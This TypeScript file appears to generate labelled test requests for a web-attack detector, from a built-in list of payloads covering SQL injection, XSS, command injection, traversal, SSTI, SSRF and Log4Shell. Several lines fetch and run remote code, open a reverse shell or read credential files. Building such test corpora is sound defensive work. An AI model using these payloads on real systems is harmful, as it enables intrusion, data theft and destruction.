import type { RequestRecord } from "../request-record.ts";

/** One attack of each kind that applications meet, for use without a traffic file: class, parameter, payload. */
const PAYLOADS: readonly (readonly [string, string, string])[] = [
  ["sqli", "id", "1' OR '1'='1"],
  ["sqli", "id", "1 OR 1=1"],
  ["sqli", "q", "x' UNION SELECT username, password FROM users-- "],
  ["sqli", "id", "1; DROP TABLE orders"],
  ["sqli", "id", "1 AND SLEEP(5)"],
  ["sqli", "user", "admin'-- "],
  ["sqli", "sort", "(CASE WHEN (SELECT 1)=1 THEN name ELSE price END)"],
  ["sqli", "id", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0"],
  ["xss", "q", "<script>alert(1)</script>"],
  ["xss", "q", "<img src=x onerror=alert(1)>"],
  ["xss", "q", "<svg/onload=alert(1)>"],
  ["xss", "q", '"><iframe src=javascript:alert(1)>'],
  ["xss", "name", '" autofocus onfocus=alert(1) x="'],
  ["xss", "next", "javascript:alert(document.cookie)"],
  ["xss", "q", "<details open ontoggle=confirm(1)>"],
  ["rce", "host", "127.0.0.1; cat /etc/passwd"],
  ["rce", "host", "8.8.8.8 && id"],
  ["rce", "name", "$(curl http://a.example/x | sh)"],
  ["rce", "file", "a | nc 10.0.0.9 4444 -e /bin/sh"],
  ["rce", "name", "`whoami`"],
  ["traversal", "file", "../../../../etc/passwd"],
  ["traversal", "file", "/var/www/../../etc/shadow"],
  ["traversal", "page", "..\\..\\..\\windows\\win.ini"],
  ["lfi", "page", "php://filter/convert.base64-encode/resource=index.php"],
  ["lfi", "page", "/proc/self/environ"],
  ["ssti", "name", "{{7*7}}"],
  ["ssti", "name", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"],
  ["ssti", "name", "${T(java.lang.Runtime).getRuntime().exec('id')}"],
  ["ssrf", "url", "http://169.254.169.254/latest/meta-data/iam/"],
  ["ssrf", "url", "http://2130706433:8080/admin"],
  ["nosqli", "user[$ne]", "x"],
  ["prototype-pollution", "__proto__[admin]", "1"],
  ["ldap", "user", "*)(uid=*))(|(uid=*"],
  ["log4shell", "q", "${jndi:ldap://a.example/x}"],
];

const encode = (text: string): string =>
  encodeURIComponent(text).replace(/[!'()*]/g, (character) => `%${character.charCodeAt(0).toString(16).toUpperCase()}`);

/** The built-in attacks as requests of a current browser. */
export const builtInPayloads = (): readonly RequestRecord[] =>
  PAYLOADS.map(([name, parameter, payload], index) => ({
    id: `built-in-${index + 1}`,
    label: "attack",
    class: name,
    tier: undefined,
    method: "GET",
    url: `/search?${encode(parameter)}=${encode(payload)}`,
    fields: [
      ["host", "shop.example"],
      ["user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"],
      ["accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
      ["accept-language", "en-GB,en;q=0.9"],
      ["accept-encoding", "gzip, deflate, br"],
    ],
    body: null,
    isBytes: false,
    client: undefined,
    at: undefined,
  }));
